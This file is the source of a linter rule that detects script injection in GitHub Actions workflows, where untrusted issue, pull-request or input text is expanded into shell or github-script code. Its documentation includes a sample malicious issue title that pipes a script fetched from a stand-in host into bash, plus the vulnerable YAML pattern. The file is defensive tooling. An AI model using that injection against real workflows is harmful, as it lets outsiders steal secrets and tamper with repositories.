"""## What it finds

`${{ }}` expressions whose value an outsider chooses, expanded straight into a `run:` script
or into the `script:` of `actions/github-script`: the title or body of an issue, pull
request, comment, review or discussion, a pull request's head branch (`github.head_ref`,
`github.event.pull_request.head.ref`/`head.label`), commit messages and author names
(`github.event.commits.*.message`, `head_commit.message`), wiki page names, the branch and
title of a `workflow_run`, and free-text `workflow_dispatch` inputs (`type: string`, whoever
can start the workflow types them). Expressions are parsed: `format(…)`, `join(…)`, `toJSON(…)` and
`a || b` carry their arguments' text into the script; `contains(…)`, comparisons and `!`
yield only booleans and are left alone. `${{ env.TITLE }}` counts when that variable is set
from such a value: the expression still splices its text into the script. Composite actions (`action.yml`) are checked too.

## Why it matters in production

GitHub substitutes the expression's text into the script *before* the shell runs it. An
issue titled `"; curl -sSL evil.sh | bash; echo "` becomes shell code executed with the
workflow's token and secrets. Anyone who can open an issue or a pull request can then push
to the repository, steal deploy keys or poison releases.

## Example

```yaml
- run: echo "Triaging ${{ github.event.issue.title }}"
```

## Use instead

```yaml
- env:
    TITLE: ${{ github.event.issue.title }}
  run: echo "Triaging $TITLE"
```

## Not flagged

The same value passed through `env:` and used as `"$VAR"` (the shell reads it at run time;
`${{ env.VAR }}` would splice it in again); identifiers an outsider cannot
shape (`github.event.pull_request.number`, `head.sha`, `github.actor`'s numeric id);
booleans computed from untrusted text (`contains(github.event.comment.body, '/deploy')`);
`inputs.*` of reusable workflows and composite actions, `workflow_dispatch` inputs of
type `choice`, `boolean` or `number`, and `steps.*.outputs.*` (not known to be untrusted); expressions in `if:`,
`with:` inputs of other actions, or `env:` values.

## How to suppress

`# prodlint-ignore GH104: the title is validated by the previous step` on the line above the
`run:` key, or inside the script as a shell comment on the line above the expression.

## References

- https://securitylab.github.com/resources/github-actions-untrusted-input/
- https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
"""

from linter.registry import rule
from linter.workflows import attacker_controlled, find_expressions, workflow_of


def _env_source(step, name: str) -> str | None:
    """The untrusted context path an `env.NAME` holds, looking where GitHub does: the step's
    `env:`, then its job's, then the workflow's."""
    workflow = step.job.workflow
    for block in (step.env, step.job.env, workflow.env if workflow.kind == "workflow" else {}):
        for key, value in block.items():
            if str(key).lower() == name and isinstance(value, str):
                for expression in find_expressions(value):
                    for path, _node, whole in expression.value_paths():
                        if attacker_controlled(path, whole):
                            return f"env.{key}` (set from `{path}`), text an outsider can choose,"
                return None
    return None


def _free_text_input(step, path: str) -> str | None:
    """`inputs.NAME` / `github.event.inputs.NAME` of a `workflow_dispatch` input that takes any
    text (type `string`, the default); choices, booleans and numbers cannot carry code."""
    if path.startswith("github.event.inputs."):
        name, declared_only = path[len("github.event.inputs."):], False
    elif path.startswith("inputs."):
        name, declared_only = path[len("inputs."):], True
    else:
        return None
    if "." in name:
        return None
    dispatch = step.job.workflow.triggers.get("workflow_dispatch") if step.job.workflow.kind == "workflow" else None
    inputs = dispatch.get("inputs") if isinstance(dispatch, dict) else None
    declared = {str(key).lower(): value for key, value in inputs.items()} if isinstance(inputs, dict) else {}
    written = {str(key).lower(): str(key) for key in inputs} if isinstance(inputs, dict) else {}
    shown = path[: len(path) - len(name)] + written.get(name, name)
    if name not in declared:
        return None if declared_only or not dispatch else f"{shown}`, a `workflow_dispatch` input whoever starts the run types,"
    spec = declared[name] if isinstance(declared[name], dict) else {}
    kind = str(spec.get("type", "string")).lower()
    return f"{shown}`, a free-text `workflow_dispatch` input whoever starts the run types," if kind == "string" else None


def _untrusted(text: str, step):
    for expression in find_expressions(text):
        for path, _node, whole in expression.value_paths():
            if attacker_controlled(path, whole):
                yield expression, f"{path}`, text an outsider can choose,"
                break
            free_text = _free_text_input(step, path)
            if free_text:
                yield expression, free_text
                break
            if path.startswith("env.") and path.count(".") == 1:
                source = _env_source(step, path[4:])
                if source:
                    yield expression, source
                    break


@rule(
    code="GH104",
    slug="script-injection",
    level="error",
    cwe=94,
    summary="Untrusted `${{ }}` value expanded into a script",
    target="workflow",
    security_severity=9.0,
    tags=("security", "github-actions"),
)
def check(ctx):
    workflow = workflow_of(ctx)
    if workflow is None:
        return
    for step in workflow.steps():
        targets = []
        if step.run is not None:
            targets.append(("run", step.route + ("run",), step.run))
        uses = step.uses
        script = step.with_.get("script")
        if uses is not None and uses.is_action("actions/github-script") and isinstance(script, str):
            targets.append(("script", step.route + ("with", "script"), script))
        for where, route, text in targets:
            for expression, path in _untrusted(text, step):
                shown = f"${{{{{expression.source}}}}}"
                consequence = "shell code" if where == "run" else "JavaScript"
                advice = "use `\"$VAR\"`" if where == "run" else "read `process.env.VAR`"
                yield ctx.report(
                    route,
                    f"`{shown.strip()}` puts `{path} "
                    f"into the step's `{where}:` text: it runs as {consequence} with the workflow's token; "
                    f"pass it through `env:` and {advice}",
                    span=(expression.start, expression.end),
                )
